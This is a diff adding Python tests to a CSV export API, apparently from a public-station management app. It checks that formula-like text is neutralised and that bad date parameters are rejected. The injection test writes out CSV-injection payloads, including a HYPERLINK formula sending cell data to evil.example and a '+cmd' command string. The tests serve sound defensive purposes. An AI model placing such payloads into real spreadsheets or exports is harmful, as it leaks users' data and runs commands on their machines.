@@ -51,3 +51,50 @@ async def test_scorecard_csv_obeys_scope(client: Any, gql: Any) -> None:
     assert refused.status_code == 403
     bad = await _get(client, gql, "/export/scorecard.csv", "bureau", **{"from": "soon", "to": "2022-12-31"})
     assert bad.status_code == 400
+
+
+async def test_formula_like_text_is_neutralised_and_every_cell_quoted(client: Any, gql: Any) -> None:
+    """OWASP CSV injection: text starting with = + - @ (or tab, carriage return) gets a leading
+    single quote, so a spreadsheet shows it instead of running it."""
+    from tests.helpers import data
+
+    xiagang = data(await gql('{ jurisdictions(filter: {search: "Xiagang"}) { nodes { id } } }'))
+    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    address = "+cmd|' /C calc'!A0"
+    data(
+        await gql(
+            "mutation($i: CreateStationInput!) { createStation(input: $i) { __typename } }",
+            {
+                "i": {
+                    "code": "csv-injection-test",
+                    "name": name,
+                    "kind": "COMMUNITY_WORKSTATION",
+                    "level": "COMMUNITY",
+                    "floorArea": 30.0,
+                    "restArea": 20.0,
+                    "address": address,
+                    "openingHours": "@SUM(1+1)",
+                    "jurisdictionId": xiagang["jurisdictions"]["nodes"][0]["id"],
+                }
+            },
+        )
+    )
+    response = await _get(client, gql, "/export/stations.csv", "bureau")
+    [row] = [r for r in _rows(response) if r[0] == "csv-injection-test"]
+    assert row[1] == "'" + name and row[7] == "'" + address and row[10] == "'@SUM(1+1)"
+    line = next(x for x in response.content.decode("utf-8-sig").splitlines() if "csv-injection-test" in x)
+    assert line.startswith('"csv-injection-test","\'=HYPERLINK(') and line.endswith('"')
+
+
+async def test_far_and_malformed_dates_are_a_400_not_a_500(client: Any, gql: Any) -> None:
+    for period in (
+        {"from": "9999-01-01", "to": "9999-12-31"},
+        {"from": "2022-01-01", "to": "9999-12-31"},
+        {"from": "0001-01-01", "to": "0001-12-31"},
+        {"from": "2022-02-30", "to": "2022-03-01"},
+        {"from": "2022-01-01"},
+        {"from": "2022-01-01", "to": "2022-12-31", "jurisdiction": "x" * 10_000},
+    ):
+        bad = await _get(client, gql, "/export/scorecard.csv", "bureau", **period)
+        assert bad.status_code == 400, (period, bad.text)
+        assert bad.json()["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"
